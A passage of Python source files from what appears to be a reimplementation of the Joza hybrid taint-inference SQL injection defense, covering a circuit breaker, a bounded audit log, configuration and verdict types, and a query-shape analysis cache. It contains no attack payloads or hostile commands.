    breaker can guard a daemon shared by N request threads.  The critical
    atomicity is the half-open probe token: ``allow`` consumes a probe slot
    and exactly ``half_open_probes`` concurrent callers may win it -- a torn
    check-then-increment would let a thundering herd through a half-open
    breaker, exactly the spawn storm it exists to prevent.
    """

    def __init__(
        self,
        failure_threshold: int = 5,
        reset_timeout: float = 5.0,
        half_open_probes: int = 1,
        clock: typing.Callable[[], float] = time.monotonic,
    ) -> None:
        if failure_threshold < 1:
            raise ValueError("failure_threshold must be >= 1")
        if half_open_probes < 1:
            raise ValueError("half_open_probes must be >= 1")
        self.failure_threshold = failure_threshold
        self.reset_timeout = reset_timeout
        self.half_open_probes = half_open_probes
        self._clock = clock
        self._lock = threading.RLock()
        self._state = BreakerState.CLOSED
        self._consecutive_failures = 0
        self._opened_at: float | None = None
        self._probes_in_flight = 0
        # Observability counters.
        self.times_opened = 0
        self.times_reclosed = 0
        self.rejections = 0

    def _current_state(self) -> BreakerState:
        """Lock held: apply the open -> half-open timeout transition."""
        if (
            self._state is BreakerState.OPEN
            and self._opened_at is not None
            and self._clock() - self._opened_at >= self.reset_timeout
        ):
            self._state = BreakerState.HALF_OPEN
            self._probes_in_flight = 0
        return self._state

    @property
    def state(self) -> BreakerState:
        """Current state, applying the open -> half-open timeout transition."""
        with self._lock:
            return self._current_state()

    def allow(self) -> bool:
        """Whether one operation may proceed now.

        In half-open state each ``allow`` atomically consumes one probe
        slot; callers must follow up with :meth:`record_success` or
        :meth:`record_failure`.
        """
        with self._lock:
            state = self._current_state()
            if state is BreakerState.CLOSED:
                return True
            if state is BreakerState.HALF_OPEN:
                if self._probes_in_flight < self.half_open_probes:
                    self._probes_in_flight += 1
                    return True
                self.rejections += 1
                return False
            self.rejections += 1
            return False

    def record_success(self) -> None:
        with self._lock:
            self._consecutive_failures = 0
            self._probes_in_flight = max(self._probes_in_flight - 1, 0)
            if self._state is not BreakerState.CLOSED:
                self._state = BreakerState.CLOSED
                self._opened_at = None
                self.times_reclosed += 1

    def record_failure(self) -> None:
        with self._lock:
            self._consecutive_failures += 1
            self._probes_in_flight = max(self._probes_in_flight - 1, 0)
            if self._state is BreakerState.HALF_OPEN or (
                self._state is BreakerState.CLOSED
                and self._consecutive_failures >= self.failure_threshold
            ):
                self._state = BreakerState.OPEN
                self._opened_at = self._clock()
                self.times_opened += 1

    def snapshot(self) -> dict[str, object]:
        """Counters + state for the audit export (one consistent read)."""
        with self._lock:
            return {
                "state": self._current_state().value,
                "consecutive_failures": self._consecutive_failures,
                "times_opened": self.times_opened,
                "times_reclosed": self.times_reclosed,
                "rejections": self.rejections,
            }


# ----------------------------------------------------------------------
# Engine-level configuration
# ----------------------------------------------------------------------


@dataclass
class ResilienceConfig:
    """Engine-level fault-tolerance knobs (see DESIGN.md section 7).

    Attributes:
        deadline_seconds: per-query analysis budget across *all* stages
            (PTI daemon round-trip including retries, plus the NTI
            comparison loop).  ``None`` (the default) keeps the seed's
            unbounded behavior.
        failure_policy: what to do when a technique is unavailable
            (:class:`FailurePolicy`); the default fails closed.
        attack_log_capacity: ring-buffer capacity of the audit attack log;
            older records are dropped (and counted) beyond this.
        clock: monotonic time source used for deadlines; injectable so the
            chaos harness can simulate hangs without wall-clock sleeps.
    """

    deadline_seconds: float | None = None
    failure_policy: FailurePolicy = FailurePolicy.FAIL_CLOSED
    attack_log_capacity: int = 10_000
    clock: typing.Callable[[], float] = time.monotonic

    def start_deadline(self) -> Deadline:
        """A fresh per-query deadline on this config's clock."""
        return Deadline(self.deadline_seconds, self.clock)


# ----------------------------------------------------------------------
# Bounded audit log
# ----------------------------------------------------------------------


class RingLog:
    """A capacity-bounded append-only ring buffer with a drop counter.

    Drop-in replacement for the engine's former ``list`` attack log: it
    supports ``append``, ``len``, truthiness, iteration, indexing (incl.
    negative), and ``clear``.  When full, appends evict the *oldest*
    record and increment :attr:`dropped_records` -- under an attack flood
    the most recent evidence is what an operator wants, and memory stays
    bounded.

    Thread safety: ``append`` is a check-then-count-then-push sequence; two
    unsynchronized appenders at capacity could both observe "full" before
    either pushed (double-counted drop) or interleave count and push (lost
    drop).  Every mutation and the drop counter therefore share one lock;
    iteration snapshots the deque so concurrent appends never invalidate a
    reader mid-walk.

    Persistence: :meth:`attach_sink` registers a callable that receives
    every appended record (the durability layer journals it; DESIGN.md
    section 15).  With a sink attached, eviction stops meaning *lost*
    attack evidence -- the ring bounds memory while the journal keeps the
    full trail -- so drops-with-a-sink are counted separately as
    :attr:`drops_recovered`.  A raising sink must never take the guard's
    audit path down with it: the record still lands in the ring, the
    failure is counted in :attr:`sink_failures`, and the error is
    swallowed (availability of the in-memory log wins; durability gaps
    are surfaced through the counter, not through an exception on the
    block path).
    """

    __slots__ = (
        "_capacity",
        "_items",
        "_lock",
        "_sink",
        "dropped_records",
        "drops_recovered",
        "persisted_records",
        "sink_failures",
    )

    def __init__(self, capacity: int = 10_000) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self._capacity = capacity
        self._items: "collections.deque" = collections.deque(maxlen=capacity)
        self._lock = threading.Lock()
        self._sink: typing.Callable[[typing.Any], None] | None = None
        self.dropped_records = 0
        self.drops_recovered = 0
        self.persisted_records = 0
        self.sink_failures = 0

    @property
    def capacity(self) -> int:
        return self._capacity

    def attach_sink(self, sink: typing.Callable[[typing.Any], None] | None) -> None:
        """Register (or with ``None`` detach) the persistence sink."""
        with self._lock:
            self._sink = sink

    def append(self, item) -> None:
        with self._lock:
            persisted = False
            if self._sink is not None:
                try:
                    self._sink(item)
                    persisted = True
                    self.persisted_records += 1
                except Exception:
                    self.sink_failures += 1
            if len(self._items) == self._capacity:
                if persisted:
                    self.drops_recovered += 1
                else:
                    self.dropped_records += 1
            self._items.append(item)

    def clear(self) -> None:
        """Drop all records (keeps the cumulative drop counter)."""
        with self._lock:
            self._items.clear()

    def __len__(self) -> int:
        return len(self._items)

    def __bool__(self) -> bool:
        return bool(self._items)

    def __iter__(self):
        with self._lock:
            return iter(tuple(self._items))

    def __getitem__(self, index):
        with self._lock:
            if isinstance(index, slice):
                return list(self._items)[index]
            return self._items[index]

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"RingLog(capacity={self._capacity}, size={len(self._items)}, "
            f"dropped={self.dropped_records})"
        )
