"""Joza configuration and attack-recovery policies (paper Section IV-E)."""

from __future__ import annotations

import dataclasses
import enum
from dataclasses import dataclass, field

from ..nti.inference import NTIConfig
from ..pti.daemon import DaemonConfig
from ..pti.inference import PTI_MATCHER_CHOICES
from .resilience import FailurePolicy, ResilienceConfig
from .shapecache import ShapeCacheConfig

__all__ = [
    "RecoveryPolicy",
    "JozaConfig",
    "FailurePolicy",
    "ResilienceConfig",
    "ShapeCacheConfig",
]


class RecoveryPolicy(enum.Enum):
    """What happens to a request whose query was judged an attack.

    ``TERMINATE`` (the default; "Joza uses termination, which typically
    results in a blank HTML page") aborts the request.
    ``ERROR_VIRTUALIZATION`` "returns an error code as if the query had
    failed and relies on the application logic to handle this error
    gracefully".
    """

    TERMINATE = "terminate"
    ERROR_VIRTUALIZATION = "error_virtualization"


@dataclass
class JozaConfig:
    """Top-level configuration of the hybrid engine.

    ``enable_nti`` / ``enable_pti`` exist for the paper's component-wise
    security evaluation (Section V-A runs each technique in isolation);
    production deployments leave both on.
    """

    nti: NTIConfig = field(default_factory=NTIConfig)
    daemon: DaemonConfig = field(default_factory=DaemonConfig)
    #: Fault-tolerance knobs: per-query analysis deadline, failure policy,
    #: audit-log capacity (DESIGN.md section 7).
    resilience: ResilienceConfig = field(default_factory=ResilienceConfig)
    #: Query-shape fast path: bounded skeleton-keyed plan cache + shadow
    #: validation sampling (DESIGN.md "shape fast path").  Active only when
    #: both techniques are enabled (a plan encodes hybrid-pipeline results).
    shape: ShapeCacheConfig = field(default_factory=ShapeCacheConfig)
    policy: RecoveryPolicy = RecoveryPolicy.TERMINATE
    enable_nti: bool = True
    enable_pti: bool = True
    #: Ray/Ligatti-style strict policy: identifiers become critical tokens.
    #: Breaks applications that pass field/table names through input (the
    #: reason the paper defaults to the pragmatic stance, Section II).
    strict_tokens: bool = False
    #: PTI matching-engine selector, threaded into ``daemon.pti.matcher``
    #: (and from there into subprocess daemon children and the shape fast
    #: path's recheck analyzer): ``"auto"`` | ``"scan"`` | ``"automaton"``
    #: (DESIGN.md section 9).  ``"auto"`` leaves whatever the embedded
    #: :class:`~repro.pti.inference.PTIConfig` selected; a non-default
    #: value overrides it, mirroring the NTI ``matcher`` knob.
    pti_matcher: str = "auto"

    def __post_init__(self) -> None:
        if self.strict_tokens:
            self.daemon.strict_tokens = True
        if self.pti_matcher not in PTI_MATCHER_CHOICES:
            raise ValueError(
                f"unknown pti matcher {self.pti_matcher!r}; "
                f"expected one of {PTI_MATCHER_CHOICES}"
            )
        if self.pti_matcher != "auto":
            self.daemon.pti = dataclasses.replace(
                self.daemon.pti, matcher=self.pti_matcher
            )
