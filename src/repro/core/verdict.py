"""Verdict and taint-marking types shared by the analyses.

Terminology follows the paper's Figure 1: ``-`` (negative) markings denote
regions of the query inferred to originate from *untrusted input*, ``+``
(positive) markings denote regions matched by *trusted program fragments*,
and critical tokens are the ``c`` items obtained by parsing the command.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from ..sqlparser.tokens import Token

__all__ = [
    "Technique",
    "TaintMarking",
    "Detection",
    "AnalysisResult",
    "QueryVerdict",
]


class Technique(enum.Enum):
    """Which inference technique produced a marking or detection."""

    NTI = "nti"
    PTI = "pti"
    HYBRID = "hybrid"


@dataclass(frozen=True)
class TaintMarking:
    """A contiguous character range of the query carrying a taint marking.

    For NTI, ``origin`` is the input value that matched and ``ratio`` its
    difference ratio; for PTI, ``origin`` is the program fragment whose
    occurrence produced the marking and ``ratio`` is 0.
    """

    start: int
    end: int
    technique: Technique
    origin: str
    ratio: float = 0.0

    def covers(self, token: Token) -> bool:
        """Whether the marking fully contains ``token`` (whole-token rule)."""
        return self.start <= token.start and token.end <= self.end

    @property
    def length(self) -> int:
        return self.end - self.start


@dataclass(frozen=True)
class Detection:
    """One reason a technique judged the query to be an attack."""

    technique: Technique
    reason: str
    token_text: str
    token_start: int
    token_end: int
    input_value: str | None = None


@dataclass
class AnalysisResult:
    """Outcome of running one technique over one query."""

    technique: Technique
    safe: bool
    markings: list[TaintMarking] = field(default_factory=list)
    detections: list[Detection] = field(default_factory=list)
    from_cache: str | None = None  # "query" | "structure" | None

    def __bool__(self) -> bool:  # truthiness == safety, convenient in tests
        return self.safe


@dataclass
class QueryVerdict:
    """Joza's combined decision for one query.

    ``safe`` is True iff *both* components deemed the query safe (paper
    Section IV-E: "A query is safe if and only if both PTI and NTI
    components deem the query safe").  A component skipped due to caching
    still contributes its cached verdict.

    Resilience annotations (DESIGN.md section 7): ``degraded`` marks a
    verdict produced with less than the full hybrid pipeline (one technique
    unavailable, or PTI running in the in-process fallback), ``failsafe``
    marks a query blocked because analysis was unavailable rather than
    because an attack was detected, and ``failure_reasons`` records what
    went wrong.  All three surface in the audit export so operators can
    distinguish real detections from the runtime absorbing faults.
    """

    query: str
    safe: bool
    pti: AnalysisResult | None = None
    nti: AnalysisResult | None = None
    degraded: bool = False
    failsafe: bool = False
    failure_reasons: list[str] = field(default_factory=list)

    @property
    def detections(self) -> list[Detection]:
        out: list[Detection] = []
        if self.pti is not None:
            out.extend(self.pti.detections)
        if self.nti is not None:
            out.extend(self.nti.detections)
        return out

    def detected_by(self) -> set[Technique]:
        """Which techniques flagged the query."""
        flagged: set[Technique] = set()
        if self.pti is not None and not self.pti.safe:
            flagged.add(Technique.PTI)
        if self.nti is not None and not self.nti.safe:
            flagged.add(Technique.NTI)
        return flagged
