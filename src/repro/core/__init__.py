"""Joza's core: the hybrid engine, policies, verdicts and resilience."""

from .engine import AttackRecord, EngineStats, JozaEngine
from .policy import JozaConfig, RecoveryPolicy
from .resilience import (
    BreakerState,
    CircuitBreaker,
    CorruptReply,
    DaemonCrash,
    DaemonTimeout,
    DaemonUnavailable,
    Deadline,
    DeadlineExceeded,
    FailurePolicy,
    PTIFailure,
    ResilienceConfig,
    RetryPolicy,
    RingLog,
)
from .verdict import (
    AnalysisResult,
    Detection,
    QueryVerdict,
    TaintMarking,
    Technique,
)

__all__ = [
    "AttackRecord",
    "EngineStats",
    "JozaEngine",
    "JozaConfig",
    "RecoveryPolicy",
    "BreakerState",
    "CircuitBreaker",
    "CorruptReply",
    "DaemonCrash",
    "DaemonTimeout",
    "DaemonUnavailable",
    "Deadline",
    "DeadlineExceeded",
    "FailurePolicy",
    "PTIFailure",
    "ResilienceConfig",
    "RetryPolicy",
    "RingLog",
    "AnalysisResult",
    "Detection",
    "QueryVerdict",
    "TaintMarking",
    "Technique",
]
