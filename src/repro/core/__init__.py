"""Joza's core: the hybrid taint-inference engine, policies and verdicts."""

from .engine import AttackRecord, EngineStats, JozaEngine
from .policy import JozaConfig, RecoveryPolicy
from .verdict import (
    AnalysisResult,
    Detection,
    QueryVerdict,
    TaintMarking,
    Technique,
)

__all__ = [
    "AttackRecord",
    "EngineStats",
    "JozaEngine",
    "JozaConfig",
    "RecoveryPolicy",
    "AnalysisResult",
    "Detection",
    "QueryVerdict",
    "TaintMarking",
    "Technique",
]
