"""Joza's core: the hybrid engine, policies, verdicts and resilience."""

from .engine import AttackRecord, EngineStats, JozaEngine
from .policy import JozaConfig, RecoveryPolicy
from .shapecache import (
    PlanToken,
    ShapeCache,
    ShapeCacheConfig,
    ShapePlan,
    build_plan,
)
from .resilience import (
    BreakerState,
    CircuitBreaker,
    CorruptReply,
    DaemonCrash,
    DaemonTimeout,
    DaemonUnavailable,
    Deadline,
    DeadlineExceeded,
    FailurePolicy,
    OverloadPolicy,
    PoolSaturated,
    PTIFailure,
    ResilienceConfig,
    RetryPolicy,
    RingLog,
)
from .verdict import (
    AnalysisResult,
    Detection,
    QueryVerdict,
    TaintMarking,
    Technique,
)

__all__ = [
    "AttackRecord",
    "EngineStats",
    "JozaEngine",
    "JozaConfig",
    "RecoveryPolicy",
    "PlanToken",
    "ShapeCache",
    "ShapeCacheConfig",
    "ShapePlan",
    "build_plan",
    "BreakerState",
    "CircuitBreaker",
    "CorruptReply",
    "DaemonCrash",
    "DaemonTimeout",
    "DaemonUnavailable",
    "Deadline",
    "DeadlineExceeded",
    "FailurePolicy",
    "OverloadPolicy",
    "PoolSaturated",
    "PTIFailure",
    "ResilienceConfig",
    "RetryPolicy",
    "RingLog",
    "AnalysisResult",
    "Detection",
    "QueryVerdict",
    "TaintMarking",
    "Technique",
]
