"""Query-shape cache: per-shape analysis plans for the guard fast path.

Production SQL traffic is a small set of repeated query *shapes* differing
only in literal values (the observation behind the paper's structure cache,
Section VI-A, and behind SQLBlock-style query profiling).  The cold path
re-lexes every intercepted query, re-extracts its critical tokens and
re-runs PTI coverage from scratch -- all work that is identical across
instances of one shape.  This module caches that work.

A **shape** is the literal-masked skeleton of a query
(:func:`repro.sqlparser.skeletonize`): the query text with string/number
literals replaced by typed slot markers, everything else byte-identical.
An **analysis plan** for a shape records

- the critical-token stream as interned parallel primitive arrays
  (type/text/value/span/segment; see :class:`ShapePlan`) -- real
  :class:`~repro.sqlparser.tokens.Token` objects are only materialized
  when the hit actually needs them, and :class:`PlanToken` records only
  on introspection;
- for each token, whether its PTI coverage is **slot-independent**: the
  witness fragment occurrence found at build time lies entirely within the
  token's inter-literal segment, so byte-identical segments (guaranteed by
  skeleton-key equality) re-produce the same occurrence for *every*
  instantiation of the shape.  Tokens whose witness occurrence crosses a
  literal slot depend on literal text and are flagged ``recheck``;
- NTI pruning data: the minimum critical-token length and per-token
  character multisets, used to skip inputs that cannot possibly cover any
  critical token under the edit-distance budget.

Soundness requires that **only fully-safe shapes are cached**: an uncovered
critical token could become covered in another instantiation only via a
slot-crossing occurrence, so "uncovered" is not a shape property --
:func:`build_plan` refuses to build a plan for them and the engine falls
through to the cold path (mirroring the structure cache's safe-only rule).

Invalidation is by **fragment-store epoch**: any mutation of the store bumps
:attr:`repro.pti.fragments.FragmentStore.epoch`, and :meth:`ShapeCache.get`
/ :meth:`ShapeCache.put` clear the whole cache when the epoch moved (plans
embed coverage decisions, which a removed fragment can invalidate and an
added fragment can improve; either way the cached plan is stale).
"""

from __future__ import annotations

import sys
import threading
from collections import OrderedDict
from dataclasses import dataclass

from ..matching.filter import edit_budget
from ..matching.substring import TextProfile
from ..pti.caches import CacheStats
from ..sqlparser.skeleton import LiteralSlot, Skeleton
from ..sqlparser.tokens import Token, TokenType

__all__ = [
    "ShapeCacheConfig",
    "PlanToken",
    "ShapePlan",
    "ShapeCache",
    "build_plan",
]


@dataclass
class ShapeCacheConfig:
    """Tunables for the shape fast path.

    Attributes:
        enabled: master switch; off means every query takes the cold path.
        capacity: bounded LRU size (number of distinct shapes).
        shadow_rate: probability in ``[0, 1]`` that a fast-path verdict is
            shadow-validated by re-running the cold path and comparing
            verdicts; divergences are counted and the cold verdict wins.
        shadow_seed: seed for the shadow-sampling RNG (``None`` = entropy).
    """

    enabled: bool = True
    capacity: int = 2048
    shadow_rate: float = 0.0
    shadow_seed: int | None = None


@dataclass(frozen=True)
class PlanToken:
    """One critical token of a shape, stored as primitives.

    ``segment`` is the index of the inter-literal segment containing the
    token (= number of slots entirely before it); the token's span in a new
    instantiation is its template span shifted by the cumulative length
    delta of those slots.  ``recheck`` marks tokens whose PTI coverage
    witness crossed a literal slot at build time and must be re-verified
    per query instance.

    For recheck tokens, ``witness``/``witness_rel`` record the build-time
    witness fragment and its start offset *relative to the token start*.
    In most instantiations the witness re-occurs at the same relative
    position (quote-adjacent template fragments shift rigidly with their
    token), so the re-proof collapses to one ``startswith`` -- the full
    fragment search is only needed when the guess misses.
    """

    type: TokenType
    text: str
    value: object
    start: int
    end: int
    segment: int
    recheck: bool
    witness: str | None = None
    witness_rel: int = 0


class ShapePlan:
    """Reusable analysis plan for one query shape.

    Built from a *clean, fully-safe* cold-path analysis of one instance of
    the shape (see :func:`build_plan`); applied by the engine to later
    instances sharing the skeleton key.

    Concurrency: a plan is immutable in everything verdict-relevant (key,
    slots, token arrays, witnesses, filters).  The mutable members are pure
    memos -- ``_memo``, ``_profile_template``, ``_tokens``, ``hits`` --
    whose races are benign by construction: every writer stores a value any
    other writer would also have computed (single dict-slot assignments are
    atomic under the GIL), so the worst interleaving costs a recomputation
    or a lost hit-count increment, never a wrong span or profile.

    Storage: the critical-token stream lives in **interned parallel
    arrays** (``tok_types`` / ``tok_texts`` / ``tok_values`` /
    ``tok_starts`` / ``tok_ends`` / ``tok_segments``), not per-token
    record objects.  Texts and string values pass through ``sys.intern``
    -- critical tokens are keywords, operators and schema identifiers, a
    tiny vocabulary shared across every cached shape, so a 2048-plan cache
    keeps one ``"SELECT"`` instead of thousands -- and the hot replay
    loops (:meth:`instantiate`, :meth:`materialize`) walk flat tuples
    instead of chasing attributes through dataclass records.  The
    :attr:`tokens` property rebuilds the :class:`PlanToken` view lazily
    for introspection and tests.
    """

    __slots__ = (
        "key",
        "slots",
        "tok_types",
        "tok_texts",
        "tok_values",
        "tok_starts",
        "tok_ends",
        "tok_segments",
        "recheck_count",
        "min_token_len",
        "hits",
        "recheck_witnesses",
        "_filters",
        "_profile_template",
        "_memo",
        "_tokens",
    )

    def __init__(
        self,
        key: str,
        slots: tuple[LiteralSlot, ...],
        tokens: tuple[PlanToken, ...],
    ) -> None:
        self.key = key
        self.slots = slots
        # Explode the token records into interned parallel arrays; the
        # records themselves are build-time scaffolding and are dropped.
        self.tok_types = tuple(t.type for t in tokens)
        self.tok_texts = tuple(sys.intern(t.text) for t in tokens)
        self.tok_values = tuple(
            sys.intern(t.value) if type(t.value) is str else t.value
            for t in tokens
        )
        self.tok_starts = tuple(t.start for t in tokens)
        self.tok_ends = tuple(t.end for t in tokens)
        self.tok_segments = tuple(t.segment for t in tokens)
        #: Precomputed ``(token index, witness, witness_rel, len(witness))``
        #: for every recheck token, so the engine's per-hit re-proof loop
        #: iterates exactly the tokens that need it with all witness fields
        #: unpacked (no per-token attribute chasing or method dispatch).
        self.recheck_witnesses: tuple[tuple[int, str | None, int, int], ...] = (
            tuple(
                (i, t.witness, t.witness_rel, len(t.witness or ""))
                for i, t in enumerate(tokens)
                if t.recheck
            )
        )
        self.recheck_count = len(self.recheck_witnesses)
        self.min_token_len = min(
            (len(t) for t in self.tok_texts), default=0
        )
        self.hits = 0
        #: Per-token (text, length) pairs for the NTI input prefilter,
        #: shortest first so permissive inputs exit early.
        self._filters = tuple(
            sorted(((t, len(t)) for t in self.tok_texts), key=lambda p: p[1])
        )
        #: Lazily-built segment multiset tables for :meth:`profile_for`.
        self._profile_template: tuple | None = None
        #: Bounded instantiation memo for :meth:`instantiate_trusted`,
        #: keyed by slot-length tuple (cleared wholesale when full).
        self._memo: dict[
            tuple[int, ...], tuple[list[tuple[int, int]], list[Token]]
        ] = {}
        #: Lazy :class:`PlanToken` view (see :attr:`tokens`).
        self._tokens: tuple[PlanToken, ...] | None = None

    @property
    def tokens(self) -> tuple[PlanToken, ...]:
        """The critical-token stream as :class:`PlanToken` records.

        Rebuilt lazily from the parallel arrays -- the replay hot path
        never touches it; it exists for introspection and tests.  Witness
        fields are normalised: they are populated exactly for recheck
        tokens (the only tokens whose witnesses the plan consults).
        """
        view = self._tokens
        if view is None:
            witnesses = {
                i: (witness, rel)
                for i, witness, rel, _ in self.recheck_witnesses
            }
            none_pair = (None, 0)
            view = self._tokens = tuple(
                PlanToken(
                    type=ttype,
                    text=text,
                    value=value,
                    start=start,
                    end=end,
                    segment=segment,
                    recheck=i in witnesses,
                    witness=witnesses.get(i, none_pair)[0],
                    witness_rel=witnesses.get(i, none_pair)[1],
                )
                for i, (ttype, text, value, start, end, segment) in enumerate(
                    zip(
                        self.tok_types,
                        self.tok_texts,
                        self.tok_values,
                        self.tok_starts,
                        self.tok_ends,
                        self.tok_segments,
                    )
                )
            )
        return view

    # -- instantiation -------------------------------------------------

    def instantiate(
        self, query: str, slots: tuple[LiteralSlot, ...]
    ) -> list[tuple[int, int]] | None:
        """Shifted ``(start, end)`` spans of the plan tokens in ``query``.

        ``slots`` are the literal slots of the *new* query instance.  Spans
        are the template spans shifted rigidly by the cumulative slot-length
        delta -- valid because skeleton-key equality makes all inter-slot
        segments byte-identical.  As a lex-drift guard each shifted span is
        verified verbatim against the query text; any mismatch (which would
        indicate a skeletonizer/lexer disagreement) returns ``None`` so the
        engine falls through to the cold path instead of trusting the plan.
        """
        old = self.slots
        if len(slots) != len(old):
            return None
        # Prefix deltas: shift of segment i = sum of length deltas of
        # slots 0..i-1.
        shift = 0
        shifts = [0] * (len(old) + 1)
        for i, (new_slot, old_slot) in enumerate(zip(slots, old)):
            if new_slot.kind != old_slot.kind:
                return None
            shift += new_slot.length - old_slot.length
            shifts[i + 1] = shift
        spans: list[tuple[int, int]] = []
        append = spans.append
        for segment, start, end, text in zip(
            self.tok_segments, self.tok_starts, self.tok_ends, self.tok_texts
        ):
            delta = shifts[segment]
            start += delta
            end += delta
            if query[start:end] != text:
                return None
            append((start, end))
        return spans

    def materialize(self, spans: list[tuple[int, int]]) -> list[Token]:
        """Build real ``Token`` objects at the instantiated spans."""
        return [
            Token(ttype, text, start, end, value=value)
            for ttype, text, value, (start, end) in zip(
                self.tok_types, self.tok_texts, self.tok_values, spans
            )
        ]

    def instantiate_trusted(
        self, query: str, slots: tuple[LiteralSlot, ...]
    ) -> tuple[list[tuple[int, int]] | None, list[Token] | None]:
        """Spans *and* materialized tokens, memoised on slot lengths.

        Caller contract: ``skeletonize(query).key == self.key``.  The engine
        always satisfies it (plans are looked up by the query's own skeleton
        key), and under it the spans and token objects depend only on the
        *lengths* of the literal slots -- every inter-slot byte is identical
        by key equality, so the per-instance verbatim guard of
        :meth:`instantiate` is provably redundant and equal-length
        instantiations are bit-for-bit the same.  A small bounded memo
        therefore serves the common production case (a handful of literal
        widths per shape, e.g. 5-7 digit IDs) without re-deriving spans or
        re-allocating tokens.

        On a memo miss the full :meth:`instantiate` (guards included) +
        :meth:`materialize` pair runs and refreshes the memo.  Returns
        ``(None, None)`` when instantiation is refused, exactly like
        :meth:`instantiate`.
        """
        lengths = tuple(slot.end - slot.start for slot in slots)
        memo = self._memo
        cached = memo.get(lengths)
        if cached is not None:
            return cached
        spans = self.instantiate(query, slots)
        if spans is None:
            return None, None
        tokens = self.materialize(spans)
        if len(memo) >= 64:
            memo.clear()
        memo[lengths] = (spans, tokens)
        return spans, tokens

    @staticmethod
    def witness_holds(
        query: str, plan_token: PlanToken, start: int, end: int
    ) -> bool:
        """Re-verify a recheck token via its build-time witness, verbatim.

        ``start``/``end`` are the token's instantiated span.  The check is
        exact, not heuristic: it succeeds only when the witness fragment
        occurs verbatim at the guessed position *and* that occurrence
        contains the token span -- which is precisely PTI's coverage
        condition.  A miss means "unknown", and the caller falls back to
        the full fragment search.
        """
        witness = plan_token.witness
        if witness is None:
            return False
        pos = start - plan_token.witness_rel
        return (
            pos >= 0
            and end <= pos + len(witness)
            and query.startswith(witness, pos)
        )

    # -- NTI pruning-table template ------------------------------------

    def profile_for(
        self, query: str, slots: tuple[LiteralSlot, ...]
    ) -> TextProfile:
        """Exact :class:`TextProfile` of ``query``, assembled incrementally.

        The cold path scans the whole query to build NTI's char/bigram
        pruning multisets.  For a shape hit only the literal slots differ
        from the plan's template, so the fixed segments' contribution is
        precomputed once per plan and only the slot texts (plus the
        slot/segment boundary bigrams) are folded in per query --
        ``O(slot text)`` instead of ``O(query)``.  The result is exactly
        ``TextProfile(query)``: same multisets, same bounds, same matcher
        behaviour.
        """
        template = self._profile_template
        if template is None:
            # Recover the inter-slot segment texts from the skeleton key
            # (each marker is two characters: NUL + kind).
            segments: list[str] = []
            pos = 0
            key = self.key
            while True:
                mark = key.find("\x00", pos)
                if mark < 0:
                    segments.append(key[pos:])
                    break
                segments.append(key[pos:mark])
                pos = mark + 2
            base_chars: dict[str, int] = {}
            base_bigrams: dict[str, int] = {}
            for segment in segments:
                for ch in segment:
                    base_chars[ch] = base_chars.get(ch, 0) + 1
                for i in range(len(segment) - 1):
                    gram = segment[i : i + 2]
                    base_bigrams[gram] = base_bigrams.get(gram, 0) + 1
            template = self._profile_template = (segments, base_chars, base_bigrams)
        segments, base_chars, base_bigrams = template
        chars = base_chars.copy()
        bigrams = base_bigrams.copy()
        # Fold in each slot's text plus the boundary bigrams between
        # consecutive non-empty parts of seg0 slot0 seg1 slot1 ... segN.
        # Slots are literal tokens and therefore never empty; segments can
        # be (adjacent literals, leading/trailing literal).
        first_segment = segments[0]
        prev_char = first_segment[-1] if first_segment else None
        for index, slot in enumerate(slots):
            text = query[slot.start : slot.end]
            for ch in text:
                chars[ch] = chars.get(ch, 0) + 1
            for i in range(len(text) - 1):
                gram = text[i : i + 2]
                bigrams[gram] = bigrams.get(gram, 0) + 1
            if prev_char is not None:
                gram = prev_char + text[0]
                bigrams[gram] = bigrams.get(gram, 0) + 1
            following = segments[index + 1]
            if following:
                gram = text[-1] + following[0]
                bigrams[gram] = bigrams.get(gram, 0) + 1
                prev_char = following[-1]
            else:
                prev_char = text[-1]
        return TextProfile.from_tables(query, chars, bigrams)

    # -- NTI input prefilter -------------------------------------------

    def input_can_cover(self, value: str, threshold: float) -> bool:
        """Whether input ``value`` could cover *any* critical token.

        NTI detects an attack only when a single input's accepted match
        region contains a whole critical token.  An accepted match of
        ``value`` has edit distance at most
        ``budget = int(threshold * len(value) / (1 - threshold))`` (the
        acceptance rule of ``match_with_ratio``), and the matched region's
        length differs from ``len(value)`` by at most ``budget``.  Hence a
        covering match requires ``len(value) + budget >= len(token)``, and
        every character occurrence in the token's text that appears nowhere
        in ``value`` costs at least one edit.  Inputs failing these tests
        for every plan token can only produce non-covering markings, so
        skipping them cannot change the verdict.
        """
        if not self.tok_texts:
            return False
        n = len(value)
        budget = edit_budget(n, threshold) if threshold < 1.0 else n
        reach = n + budget
        if reach < self.min_token_len:
            return False
        vset = set(value)
        for text, tlen in self._filters:
            if tlen > reach:
                # Filters are sorted by length; the rest are longer still.
                return False
            if budget >= tlen:
                return True
            missing = 0
            ok = True
            for ch in text:
                if ch not in vset:
                    missing += 1
                    if missing > budget:
                        ok = False
                        break
            if ok:
                return True
        return False


class ShapeCache:
    """Bounded LRU of :class:`ShapePlan` keyed by skeleton key.

    Epoch-invalidated: callers pass the current fragment-store epoch to
    :meth:`get`/:meth:`put`; when it differs from the epoch the cached
    plans were built under, the entire cache is dropped (every plan embeds
    coverage decisions against the old store).

    Thread-safe: the epoch sync, the LRU rewiring and the counters all run
    under one internal lock, so a fragment reload racing N fast-path
    lookups can only produce misses (cold-path fallthrough), never a plan
    from a torn epoch (DESIGN.md section 10).  ``put`` refuses epochs older
    than the one already synced, so a slow cold path cannot re-plant a plan
    built against a superseded vocabulary.
    """

    _UNSYNCED = object()

    def __init__(self, capacity: int = 2048) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        self.capacity = capacity
        self._store: OrderedDict[str, ShapePlan] = OrderedDict()
        self._epoch: object = self._UNSYNCED
        self._lock = threading.RLock()
        self.stats = CacheStats()
        #: Number of epoch-change flushes observed.
        self.invalidations = 0
        self.insertions = 0
        #: Stale ``put`` attempts refused (plan built under an older epoch).
        self.stale_puts = 0

    def _sync_epoch(self, epoch: int) -> None:
        if self._epoch is not epoch and self._epoch != epoch:
            if self._epoch is not self._UNSYNCED and self._store:
                self.invalidations += 1
            self._store.clear()
            self._epoch = epoch

    def get(self, key: str, epoch: int) -> ShapePlan | None:
        with self._lock:
            current = self._epoch
            if (
                current is not self._UNSYNCED
                and isinstance(current, int)
                and epoch < current
            ):
                # Stale reader: this thread pinned its epoch before a store
